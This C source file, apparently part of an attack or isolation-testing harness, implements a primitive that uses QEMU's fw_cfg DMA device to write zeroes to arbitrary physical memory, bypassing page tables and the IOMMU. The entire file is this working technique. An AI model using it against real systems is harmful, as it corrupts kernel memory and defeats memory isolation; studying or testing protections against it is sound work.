/*
 * Physical memory through QEMU's configuration device, whose DMA no page table and no IOMMU stands
 * in the way of. Source: QEMU, "QEMU Firmware Configuration (fw_cfg) Device".
 */
#include <string.h>

#include "attack.h"

enum {
	PORT_ADDRESS_HIGH = 0x514,
	PORT_ADDRESS_LOW = 0x518,
	CONTROL_READ = 1 << 1,
	CONTROL_SELECT = 1 << 3,
	SIGNATURE_BYTES = 4
};

/* Big endian. */
struct request {
	uint32_t control, length;
	uint64_t address;
};

static volatile struct request *request;
static uint64_t request_pa;

void attack_dma_prepare(void)
{
	request = attack_pages(BW_PAGE_SIZE);
	request_pa = attack_pfn((const void *)request) * BW_PAGE_SIZE;
}

static void out32(uint16_t port, uint32_t value)
{
	__asm__ volatile("outl %0, %1" : : "a"(value), "d"(port) : "memory");
}

/* Item 0 is the signature; behind an item's end the device reads zeroes. */
static void read_item(uint32_t control, uint32_t length, uint64_t to_pa)
{
	request->length = __builtin_bswap32(length);
	request->address = __builtin_bswap64(to_pa);
	request->control = __builtin_bswap32(control);
	out32(PORT_ADDRESS_HIGH, __builtin_bswap32((uint32_t)(request_pa >> 32)));
	out32(PORT_ADDRESS_LOW, __builtin_bswap32((uint32_t)request_pa));
}

bool attack_dma_zero32(uint64_t pa)
{
	const volatile char *answer = (const volatile char *)(request + 1);

	read_item(CONTROL_SELECT | CONTROL_READ, SIGNATURE_BYTES, request_pa + sizeof(*request));
	if (memcmp((const char *)answer, "QEMU", SIGNATURE_BYTES) != 0) {
		return false;
	}
	read_item(CONTROL_READ, SIGNATURE_BYTES, pa);
	return true;
}
